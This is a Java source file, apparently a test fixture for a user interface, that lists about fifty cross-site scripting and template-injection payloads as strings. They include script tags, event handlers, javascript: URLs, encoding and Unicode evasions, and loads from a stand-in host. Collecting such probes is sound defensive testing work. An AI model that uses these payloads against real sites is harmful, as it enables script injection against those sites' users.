package org.homeward.ui.attacks;

import java.util.List;

/** Words that something between here and a screen might take for orders. */
final class Payloads {

    static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<body onload=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<audio src=x onerror=alert(1)>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<object data=javascript:alert(1)>",
            "<embed src=javascript:alert(1)>",
            "<link rel=stylesheet href=//example.org/x.css>",
            "<style>@import'//example.org/x.css'</style>",
            "<style>*{background:url(//example.org/x)}</style>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<base href=//example.org/>",
            "<form action=//example.org><button>x</button></form>",
            "<template><script>alert(1)</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<!--><script>alert(1)</script-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><x xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></x>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}",
            "#{7*7}",
            "<%= 7*7 %>",
            "`${alert(1)}`",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "＜script＞alert(1)＜/script＞",
            "﹤script﹥alert(1)﹤/script﹥",
            "<ſcript>alert(1)</ſcript>",
            "\u202E<script>alert(1)</script>",
            "\u2066<img src=x onerror=alert(1)>\u2069",
            "张三<script>alert(1)</script>",
            "<img src=\"x` `<script>alert(1)</script>\"` `>",
            "<x onclick=alert(1)>点这里</x>");

    private Payloads() {}
}
